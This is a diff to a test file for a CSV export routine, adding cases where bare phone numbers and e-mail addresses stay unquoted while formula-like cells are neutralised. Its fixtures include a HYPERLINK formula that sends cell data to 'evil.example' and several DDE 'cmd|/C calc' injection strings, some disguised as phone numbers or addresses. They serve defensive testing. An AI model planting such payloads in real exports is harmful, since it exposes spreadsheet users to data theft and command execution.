@@ -94,7 +94,7 @@ describe('toCsv', () => {
     ];
     expect(parseRfc4180(toCsv(columns, rows))).toEqual([
       ['name', 'contact', 'amount_sar'],
-      ['\'=HYPERLINK("http://evil.example/?x="&A1,"click")', "'+966500000001", '-5'],
+      ['\'=HYPERLINK("http://evil.example/?x="&A1,"click")', '+966500000001', '-5'],
       ["'-5", "'@SUM(A1:A2)", '5'],
       ["'\t=1+2", "'\r=1+2", '-0.25'],
       ['a=b', 'x-y', '0'],
@@ -131,6 +131,46 @@ describe('toCsv', () => {
     ['', ''],
   ])('neutraliseFormula(%j) is %j', (input, output) => {
     expect(neutraliseFormula(input)).toBe(output);
+  });
+
+  // b2b-portal.md, GET /b2b/roster/export: "contact is the unmasked e-mail or phone". A cell that is
+  // exactly an E.164 number (+ then 7-15 digits) or an e-mail address cannot run as a formula, so it is
+  // written as it is; anything else starting like a formula keeps its quote.
+  it.each([
+    ['+966500000001', '+966500000001'],
+    ['+447902881418', '+447902881418'],
+    ['+1234567', '+1234567'],
+    ['+123456789012345', '+123456789012345'],
+    ['-dash@example.com', '-dash@example.com'],
+    ['+tag.name@mail.example.co', '+tag.name@mail.example.co'],
+    ['sara@example.com', 'sara@example.com'],
+  ])('a bare E.164 number or e-mail address stays as it is: %j', (input, output) => {
+    expect(neutraliseFormula(input)).toBe(output);
+    expect(toCsv(columns, [{ contact: input }])).toBe(`name,contact,amount_sar\r\n,${output},\r\n`);
+  });
+
+  it.each([
+    '+1+2',
+    '+123456', // 6 digits: too short for E.164
+    '+1234567890123456', // 16 digits: too long
+    '+0123456789', // no country code starts with 0
+    '+966 500 000 001',
+    '+966500000001\n',
+    '+966500000001=1',
+    '=cmd',
+    "=cmd|' /C calc'!A0",
+    '=1+2@example.com',
+    "+cmd|'/Ccalc'!A0@example.com",
+    "-2+3+cmd|'/Ccalc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    '@example.com',
+    '-2+3',
+    '+SUM(A1)@example.com',
+    '-x@example',
+    '\t+966500000001',
+    '\r+966500000001',
+  ])('anything else starting like a formula is still neutralised: %j', (input) => {
+    expect(neutraliseFormula(input)).toBe(`'${input}`);
   });
 });
 
